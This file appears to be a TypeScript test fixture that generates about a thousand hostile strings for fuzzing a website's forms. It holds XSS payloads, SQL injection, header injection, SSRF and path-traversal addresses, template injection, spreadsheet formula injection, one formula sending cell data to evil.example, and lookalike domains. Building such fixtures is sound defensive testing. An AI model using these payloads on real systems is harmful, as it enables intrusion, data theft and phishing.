/** What each trick would run, if one of ours let it: the browser tells the test at once. */
const run = 'planted()'

const script = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<math><mi xlink:href="javascript:${run}">x`,
  `<style>*{background:url(javascript:${run})}</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `" onmouseover="${run}" autofocus onfocus="${run}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `<!--<script>${run}</script>`,
]
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `//evil.example/%0d%0aSet-Cookie:a=b`,
  `https://user:pass@evil.example/`,
  `https://evil.example\\@moda.gov.tw/`,
  `http://169.254.169.254/latest/meta-data/`,
  `http://[::1]:5432/`,
  `http://0x7f000001/`,
  `https://mоda.gov.tw/`,
  `../../../../etc/passwd`,
]
const markdown = [
  `[x](javascript:${run})`,
  `![x](https://evil.example/pixel.gif)`,
  `[x]: javascript:${run}\n\n[x]`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `# <img src=x onerror=${run}>`,
  `${'> '.repeat(40)}x`,
]
const unicode = [
  '\u202egnitirw ,drawkcab',
  '\u2066\u2067\u2068\u202a\u202b\u202d',
  'free\u200b\u200c\u200d\u2060\ufeffdom',
  `Z${'\u0301\u0316\u0338'.repeat(30)}`,
  '\u3164\u115f\uffa0',
  '👩🏽‍🦽👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '\u0007\u001b[31m\u0085\u2028\u2029',
  'مرحبا بالعالم',
  '𠮷野家𪚥',
  '\ufdfd'.repeat(20),
  '\ufffe\uffff',
  'ＳＣＲＩＰＴ＜script＞',
]
const long = ['a'.repeat(190), '無'.repeat(190), 'W'.repeat(100), '-'.repeat(180), 'a.'.repeat(90)]
const sql = [
  `'; drop table site; --`,
  `' or '1'='1`,
  `" or ""="`,
  `1); select pg_sleep(10); --`,
  `\\'; select 1; --`,
  `%' and 1=0 union select null --`,
  `$1 $2 :name ?`,
  `a' & !b | <-> (c):*`,
]
const headers = [
  'a\r\nSet-Cookie: planted=1',
  'a@b.example\r\nBcc: everybody@people.example',
  '"a b"@people.example',
  '<a@people.example>, c@people.example',
  `"<script>${run}</script>"@people.example`,
]
const templates = [
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '{{name}}',
  '$t(common:title)',
  '%s %n %x',
  '#{7*7}',
]
const shapes = [
  '[]',
  '{}',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x10',
  '__proto__',
  'constructor',
  'a[b]=c',
  'true',
]

const spreadsheet = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '@SUM(1+1)*cmd|x!A0',
  '\t=1+1',
]
const lookalikes = [
  'moda.gοv.tw',
  'ｍｏｄａ．ｇｏｖ．ｔｗ',
  'rnoda.gov.tw',
  '坦途\u200b坦途',
  'аdmin@people.example',
]

const families = {
  script,
  addresses,
  markdown,
  unicode,
  long,
  sql,
  headers,
  templates,
  shapes,
  spreadsheet,
  lookalikes,
}
const all = Object.values(families).flat()

/** Where in a text a trick stands. */
const places: ((trick: string) => string)[] = [
  (trick) => trick,
  (trick) => `網站 ${trick}`,
  (trick) => `${trick} 網站`,
  (trick) => `${trick}${trick}`,
  (trick) => trick.toUpperCase(),
  (trick) => `"${trick}`,
  (trick) => `'${trick}`,
  (trick) => ` ${trick} `,
  (trick) => `<b>${trick}`,
  (trick) => [...trick].toReversed().join(''),
  (trick) => encodeURIComponent(trick.toWellFormed()),
  (trick) => `${trick}\n${trick}`,
]

const wanted = 1000

/** A thousand different strings, the same in every run, none longer than the shortest limit of a
 * form that keeps text. */
export const hostileStrings: readonly string[] = [
  ...new Set(
    places.flatMap((place) => all.map((trick) => [...place(trick)].slice(0, 200).join(''))),
  ),
].slice(0, wanted)

const nobody = '00000000-0000-7000-8000-000000000000'
const cursor = (...place: unknown[]) => Buffer.from(JSON.stringify(place)).toString('base64url')
const most = Number.MAX_SAFE_INTEGER

/** What has the form of an id, a place in a list or a day, and is none that the database could have. */
export const rubbish: readonly string[] = [
  nobody,
  cursor(most),
  cursor(most, nobody),
  cursor(most, most, nobody),
  cursor('\u0000', nobody),
  '0000-00-00',
  '9999-12-31',
  String(2n ** 64n),
]

/** What PostgreSQL cannot keep, as forms send it. */
export const unstorable: readonly string[] = ['\0', 'a\0b', '\0<script>planted()</script>']
